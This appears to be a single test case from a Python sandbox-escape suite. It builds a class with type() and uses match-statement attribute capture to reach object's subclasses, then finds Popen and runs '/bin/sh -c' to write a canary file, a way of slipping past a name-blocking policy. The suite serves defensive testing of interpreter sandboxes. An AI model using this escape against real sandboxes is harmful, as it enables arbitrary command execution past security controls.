# id: 574
# name: type_call_with_three_arguments
# category: interpreter
# technique: type(name, bases, dict) with names that policy refuses
# breach: file
# looks_like: CANARY_FILE is created
# baseline: inproc
C = type('C', (), {'__getattr__': lambda self, n: 1, '__match_args__': ('__class__',), '__class__': property(lambda s: int)})
x = C()
match type(x):
    case object(__base__=b):
        pass
for c in b.__subclasses__():
    if c.__name__ == 'Popen':
        c(['/bin/sh', '-c', 'echo breach > ' + CANARY_FILE]).wait()
